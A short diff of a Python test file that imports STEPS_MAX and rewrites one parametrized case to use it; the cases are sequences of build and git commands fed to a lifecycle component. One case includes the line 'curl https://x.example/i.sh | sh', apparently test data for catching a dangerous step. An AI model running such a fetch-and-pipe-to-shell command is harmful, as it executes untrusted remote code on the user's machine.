@@ -9,6 +9,7 @@ from tests.service.model_server import KEY, model_server
 from tests.service.worlds import ME, World
 
 from wellworn.lifecycle.adviser import AdviserFailed
+from wellworn.lifecycle.crystallize import STEPS_MAX
 from wellworn.lifecycle.drafted_words import Wording
 from wellworn.models.access import Caller, Role
 from wellworn.models.proposal import AcceptRequest, Proposal
@@ -93,7 +94,7 @@ def test_what_went_wrong_on_the_way_is_told(world: World) -> None:
         [("make one", False), ("make two", False), ("make three", True)],
         [("git add .", True), ("git commit -m x", True), ("git push", True)],
         [("make a", True), ("make b", True), ("curl https://x.example/i.sh | sh", True)],
-        [(f"make {first}{second}", True) for first in "abcdefg" for second in "abcdef"],
+        [(f"make part-{at}", True) for at in range(STEPS_MAX + 1)],
         [("make a", True), ("make b", True), ("make c " + "x" * 500, True)],
         [("make a", True), ("make b", True), ("make c 'two\nlines'", True)],
     ],
